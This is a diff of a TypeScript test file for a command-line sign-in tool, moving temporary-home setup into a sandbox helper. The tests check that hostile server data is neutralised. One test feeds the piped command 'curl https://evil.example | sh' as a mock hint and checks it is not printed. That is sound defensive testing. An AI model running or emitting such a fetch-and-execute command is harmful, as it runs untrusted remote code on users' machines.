@@ -1,34 +1,23 @@
 import { newMachineKey } from '../../cli/auth/machine-key.ts';
 /** What an endpoint or an issuer with bad intent can make the command line do: nothing. */
 import { randomBytes } from 'node:crypto';
-import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
+import { readdir, writeFile } from 'node:fs/promises';
 import { createServer, type RequestListener } from 'node:http';
 import { createServer as createTcpServer } from 'node:net';
-import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { type Tokens, writeTokens } from '../../cli/auth/token-files.ts';
 import { listen } from '../../local/listen.ts';
 import { aRow, aSession } from './rows.ts';
-import { buildMuster, type Ended, removeMuster, type Run, runMuster } from './run.ts';
+import { type Ended, type Run, runMuster } from './run.ts';
+import { sandbox } from './sandbox.ts';
 
-let file: string;
-let home: string;
-beforeAll(async () => {
-  file = await buildMuster();
-});
-afterAll(() => removeMuster(file));
-beforeEach(async () => {
-  home = await mkdtemp(join(tmpdir(), 'muster-home-'));
-  return () => rm(home, { recursive: true });
-});
-const open: (() => Promise<void>)[] = [];
-afterEach(async () => void (await Promise.all(open.splice(0).map((close) => close()))));
+const box = sandbox();
 
 async function served(answer: RequestListener): Promise<string> {
   const { url, close } = await listen(createServer(answer));
-  open.push(close);
+  box.endAfter(close);
   return url;
 }
 
@@ -38,7 +27,7 @@ const json =
     void response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(value));
 
 const muster = (line: string, endpoint: string, run: Run = {}): Promise<Ended> =>
-  runMuster(file, line, { home, endpoint, ...run });
+  runMuster(box.file, line, { home: box.home, endpoint, ...run });
 
 const tokensFor = (endpoint: string, facts: Partial<Tokens> = {}): Tokens => ({
   endpoint,
@@ -75,7 +64,7 @@ describe('text from outside', () => {
     const endpoint = await served((request, response) =>
       json(request.url?.includes('/default/') === true ? row : list)(request, response),
     );
-    await writeTokens(tokensFor(endpoint), { HOME: home });
+    await writeTokens(tokensFor(endpoint), { HOME: box.home });
     const { stdout, stderr } = await muster(line, endpoint);
     expect(stdout).toMatch(harmless);
     expect(stdout).toContain('server-a');
@@ -124,7 +113,7 @@ describe('text from outside', () => {
       );
     });
     const tokens = tokensFor(endpoint);
-    await writeTokens(tokens, { HOME: home });
+    await writeTokens(tokens, { HOME: box.home });
     const { code, stderr } = await muster('list mcps', endpoint);
     expect(code).toBe(1);
     expect(stderr).toMatch(harmless);
@@ -151,7 +140,7 @@ describe('text from outside', () => {
     const hint = 'curl https://evil.example | sh';
     const rows = [aRow({ session: aSession({ status: 'Pending Auth', hint }) })];
     const endpoint = await served(json({ items: rows, problems: [] }));
-    await writeTokens(tokensFor(endpoint), { HOME: home });
+    await writeTokens(tokensFor(endpoint), { HOME: box.home });
     expect((await muster('auth status', endpoint)).stdout).not.toContain('curl');
   });
 });
@@ -262,7 +251,7 @@ describe('bounds', () => {
     const { url, close } = await listen(
       createTcpServer((socket) => void socket.resume().end('SSH-2.0-OpenSSH_9\r\n')),
     );
-    open.push(close);
+    box.endAfter(close);
     expect((await muster('list mcps', url)).stderr).toMatch(
       /^Error: http:\/\/127\.0\.0\.1:\d+: the response is not valid HTTP \(HPE_\w+\)\.\n/,
     );
@@ -307,7 +296,7 @@ describe('sign-in', () => {
   }
 
   const isSignedIn = async (): Promise<boolean> =>
-    (await readdir(join(home, '.config', 'muster-serverless', 'tokens')).catch(() => [])).some(
+    (await readdir(join(box.home, '.config', 'muster-serverless', 'tokens')).catch(() => [])).some(
       (name) => name.endsWith('.json'),
     );
 
@@ -364,7 +353,7 @@ describe('sign-in', () => {
           response,
         ),
       );
-      await writeTokens({ ...tokensFor(endpoint), key: newMachineKey() }, { HOME: home });
+      await writeTokens({ ...tokensFor(endpoint), key: newMachineKey() }, { HOME: box.home });
       const { code, stderr } = await muster('auth login --server default/a', endpoint);
       expect(code).toBe(3);
       expect(stderr).toContain('that is not safe to open, so the sign-in was stopped.');
@@ -417,7 +406,7 @@ describe('sign-in', () => {
 
   test('a folder that cannot be written is found before anything is asked', async () => {
     const { endpoint, asked } = await lure();
-    const blocked = join(home, 'file');
+    const blocked = join(box.home, 'file');
     await writeFile(blocked, '');
     const { code, stderr } = await muster('auth login', endpoint, {
       environment: { XDG_CONFIG_HOME: blocked },
